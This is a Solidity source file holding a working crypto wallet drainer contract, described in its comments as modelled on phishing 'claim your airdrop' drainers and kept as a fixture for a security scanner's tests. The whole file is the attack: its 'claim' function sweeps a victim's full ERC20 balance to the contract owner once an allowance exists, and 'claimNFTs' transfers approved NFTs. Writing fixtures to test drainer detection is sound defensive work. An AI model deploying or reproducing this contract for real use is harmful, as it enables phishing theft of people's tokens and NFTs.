// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC721} from "@openzeppelin/contracts/token/ERC721/IERC721.sol";

/// @notice A wallet drainer as phishing sites deploy them ("claim your airdrop"), for the security scanner's tests:
/// once a victim has approved it, `claim` moves the victim's whole token balance to the drainer's owner.
contract LykosTestDrainer {
    address public immutable owner;

    constructor() {
        owner = msg.sender;
    }

    /// @notice "Claim rewards": pulls the caller's entire balance of `token` (needs an allowance).
    function claim(address token) external {
        IERC20(token).transferFrom(msg.sender, owner, IERC20(token).balanceOf(msg.sender));
    }

    /// @notice Pulls NFTs the caller has approved this contract for (setApprovalForAll).
    function claimNFTs(address nft, uint256[] calldata tokenIds) external {
        for (uint256 i = 0; i < tokenIds.length; i++) {
            IERC721(nft).transferFrom(msg.sender, owner, tokenIds[i]);
        }
    }
}
